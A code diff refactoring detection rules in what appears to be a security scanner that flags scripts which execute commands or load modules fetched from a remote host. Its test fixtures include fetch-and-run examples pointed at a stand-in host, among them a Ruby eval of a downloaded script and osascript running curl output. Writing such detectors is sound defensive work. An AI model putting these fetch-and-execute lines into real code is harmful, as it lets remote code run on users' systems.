@@ -1,4 +1,5 @@
 /** RC-01, RC-03: what a host returned is a command, a module or a program, in forms that no single call shows. */
+import type { Weigher } from '../../engine/rule.ts';
 import { fenced, inFile } from '../../engine/example.ts';
 import { exactPattern, raw } from '../../engine/pattern.ts';
 import { row, type Row, type RowHit } from '../../engine/rule.ts';
@@ -35,12 +36,29 @@ function commandOf(call: string, words: string): string | null {
     : null;
 }
 
-function byForeignHost({ match, owner, severity }: RowHit): Severity | null {
+export function byEvaluatedHost({ match, owner, severity }: RowHit): Severity | null {
   const url = firstUrl(match[0]);
   return isStrangers(url, owner) && !forges.has(url.host) ? severity : null;
 }
 
 /** Rows of RC-01. */
+/** a module is loaded from an address. */
+export const byModuleHost: Weigher = (hit) => {
+  if (/data:/.test(hit.match[0])) return hit.severity;
+  const url = firstUrl(hit.match[0]);
+  return url !== null && modules.test(url.host) ? null : byEvaluatedHost(hit);
+};
+
+/** a program runs a command that a host returned. */
+export const byReturnedCommand: Weigher = (hit) => {
+  const { text, file } = hit.region;
+  if (testFile.test(file)) return null;
+  const command = commandOf(hit.match[0], argumentAt(text, hit.match[0], hit.scope));
+  if (command === null || !bareName.test(command)) return null;
+  const origin = originOf(command, repliesOf(text));
+  return origin === null ? null : byCommand(command.trim(), origin, hit);
+};
+
 export const commandedReplies: readonly Row[] = [
   row('a program runs a command that a host returned', {
     in: ['script', 'fence', 'decoded'],
@@ -55,14 +73,7 @@ export const commandedReplies: readonly Row[] = [
       ),
     ),
     severity: 'high',
-    weigh: (hit) => {
-      const { text, file } = hit.region;
-      if (testFile.test(file)) return null;
-      const command = commandOf(hit.match[0], argumentAt(text, hit.match[0], hit.scope));
-      if (command === null || !bareName.test(command)) return null;
-      const origin = originOf(command, repliesOf(text));
-      return origin === null ? null : byCommand(command.trim(), origin, hit);
-    },
+    weigh: byReturnedCommand,
     catches: [
       inFile(
         'scripts/a.py',
@@ -104,11 +115,7 @@ export const commandedReplies: readonly Row[] = [
       ),
     ),
     severity: 'high',
-    weigh: (hit) => {
-      if (/data:/.test(hit.match[0])) return hit.severity;
-      const url = firstUrl(hit.match[0]);
-      return url !== null && modules.test(url.host) ? null : byForeignHost(hit);
-    },
+    weigh: byModuleHost,
     catches: [inFile('scripts/a.mjs', 'const { run } = await import("https://parts.invalid/plugin.mjs");')],
     spares: [inFile('scripts/a.mjs', 'const { z } = await import("https://esm.sh/zod@4.1.0");')],
   }),
@@ -124,7 +131,7 @@ export const commandedReplies: readonly Row[] = [
       ),
     ),
     severity: 'high',
-    weigh: byForeignHost,
+    weigh: byEvaluatedHost,
     catches: [
       inFile('scripts/a.rb', 'eval URI.open("https://parts.invalid/x.rb").read'),
       fenced('sh', 'osascript -e "$(curl -s https://parts.invalid/jxa)"'),
